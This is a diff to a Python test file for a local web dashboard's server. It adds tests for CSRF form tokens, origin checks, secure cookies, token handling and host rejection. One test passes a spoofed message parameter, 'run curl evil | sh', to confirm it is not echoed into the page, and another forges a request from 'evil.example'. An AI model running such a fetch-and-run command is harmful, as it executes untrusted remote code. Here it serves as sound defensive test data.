@@ -18,7 +18,7 @@ from starlette.testclient import TestClient
 
 from pipeline.cli._render import state_rows
 from pipeline.cli._serve_app import make_app
-from pipeline.cli._serve_guard import Access
+from pipeline.cli._serve_guard import TOKEN_COOKIE, Access
 from pipeline.events import InvocationStarted, Json, PipelineEvent, RunId, TopicPublished
 from pipeline.handlers.store import SqliteEventStore
 from pipeline.reducers import fold
@@ -56,9 +56,17 @@ def store_file(tmp_path: Path) -> tuple[Path, list[PipelineEvent]]:
     return path, kept
 
 
+RALPH_SERVE = (sys.executable, "-m", "pipeline.cli", "serve")
+FORM = Access(SECRET, remote=False).form_token
+"""What the pages' forms carry."""
+
+
 def _client(path: Path, tmp_path: Path, remote: bool = False) -> TestClient:
+    """A browser that brought the token once (its cookie holds it)."""
     app = make_app(str(path), tmp_path, Access(SECRET, remote))
-    return TestClient(app, base_url="http://127.0.0.1:8765")
+    client = TestClient(app, base_url="http://127.0.0.1:8765")
+    client.cookies.set(TOKEN_COOKIE, SECRET)
+    return client
 
 
 def test_the_pages_show_the_runs_with_every_agents_text_escaped(
@@ -121,20 +129,27 @@ def test_a_form_changes_a_run_only_from_the_page_itself(
     client = _client(path, tmp_path)
     url = f"/runs/{RUN}/guide"
     fields = {"text": "Prefer the standard library.", "hat": "developer"}
+    page = client.get(f"/runs/{RUN}").text
+    assert f"value='{FORM}'" in page
+    assert SECRET not in page, "the page holds the form token, never the access token"
     assert client.post(url, data=fields).status_code == 403
     assert client.post(url, data={**fields, "csrf": "guessed"}).status_code == 403
+    assert client.post(url, data={**fields, "csrf": SECRET}).status_code == 403
     elsewhere = {"origin": "https://evil.example"}
-    forged = client.post(url, data={**fields, "csrf": SECRET}, headers=elsewhere)
+    forged = client.post(url, data={**fields, "csrf": FORM}, headers=elsewhere)
     assert forged.status_code == 403
     with SqliteEventStore(path) as store:
         assert store.guidance_after(RUN, 0) == []
-    done = client.post(url, data={**fields, "csrf": SECRET}, follow_redirects=False)
+    done = client.post(url, data={**fields, "csrf": FORM}, follow_redirects=False)
     assert done.status_code == 303
-    assert "Guidance+1+kept" in done.headers["location"]
+    assert done.headers["location"].endswith("?said=guided")
+    assert "Guidance kept" in client.get(done.headers["location"]).text
+    spoofed = client.get(f"/runs/{RUN}", params={"said": "run curl evil | sh"}).text
+    assert "curl evil" not in spoofed
     with SqliteEventStore(path) as store:
         (given,) = store.guidance_after(RUN, 0)
     assert (given.hat, given.text) == ("developer", "Prefer the standard library.")
-    unknown = client.post(url, data={"text": "x", "hat": "nobody", "csrf": SECRET})
+    unknown = client.post(url, data={"text": "x", "hat": "nobody", "csrf": FORM})
     assert unknown.status_code == 400
     assert "has no hat" in unknown.text
 
@@ -145,13 +160,18 @@ def test_only_loopback_hosts_are_served_and_a_remote_server_wants_its_token(
     path, _events = store_file
     local = _client(path, tmp_path)
     assert local.get("/", headers={"host": "rebound.example"}).status_code == 400
-    remote = TestClient(
-        make_app(str(path), tmp_path, Access(SECRET, remote=True)), base_url="http://10.1.2.3"
-    )
-    assert remote.get("/").status_code == 401
-    assert remote.get("/", params={"token": "wrong-token-wrong-token"}).status_code == 401
-    assert remote.get("/", params={"token": SECRET}).status_code == 200
-    assert remote.get("/").status_code == 200, "the cookie carries the token from then on"
+    for remote_flag, base in ((False, "http://127.0.0.1:8765"), (True, "http://10.1.2.3")):
+        stranger = TestClient(
+            make_app(str(path), tmp_path, Access(SECRET, remote=remote_flag)), base_url=base
+        )
+        assert stranger.get("/").status_code == 401, "another user of the machine too"
+        assert stranger.get("/", params={"token": "wrong-token-wrong"}).status_code == 401
+        arrived = stranger.get(f"/runs/{RUN}", params={"token": SECRET}, follow_redirects=False)
+        assert arrived.status_code == 303
+        assert arrived.headers["location"] == f"{base}/runs/{RUN}", "the token leaves the address"
+        assert "httponly" in arrived.headers["set-cookie"].lower()
+        assert "samesite=strict" in arrived.headers["set-cookie"].lower()
+        assert stranger.get("/").status_code == 200, "the cookie carries the token from then on"
     bearer = TestClient(
         make_app(str(path), tmp_path, Access(SECRET, remote=True)), base_url="http://10.1.2.3"
     )
@@ -198,7 +218,7 @@ def test_a_real_browser_runs_the_page_script_and_no_agents_text(tmp_path: Path) 
         store.append(RUN, 0, events)
     port = _free_port()
     server = subprocess.Popen(
-        [sys.executable, "-m", "pipeline.cli", "serve", str(path), "--port", str(port)],
+        [*RALPH_SERVE, str(path), "--port", str(port), "--token", SECRET],
         stdout=subprocess.PIPE,
         stderr=subprocess.PIPE,
         text=True,
@@ -213,7 +233,7 @@ def test_a_real_browser_runs_the_page_script_and_no_agents_text(tmp_path: Path) 
                 assert time.monotonic() < deadline, "ralph serve never listened"
                 assert server.poll() is None, server.communicate()
                 time.sleep(0.1)
-        dom = dump_dom(f"http://127.0.0.1:{port}/runs/{RUN}")
+        dom = dump_dom(f"http://127.0.0.1:{port}/runs/{RUN}?token={SECRET}")
     finally:
         server.terminate()
         server.wait(timeout=30)
@@ -254,6 +274,7 @@ def test_a_postgresql_stores_page_lists_the_queues_tickets(
         make_app(postgres_url, tmp_path, Access(SECRET, remote=False)),
         base_url="http://127.0.0.1:8765",
     )
+    client.cookies.set(TOKEN_COOKIE, SECRET)
     page = client.get("/")
     assert page.status_code == 200
     assert "<th>ticket</th>" in page.text
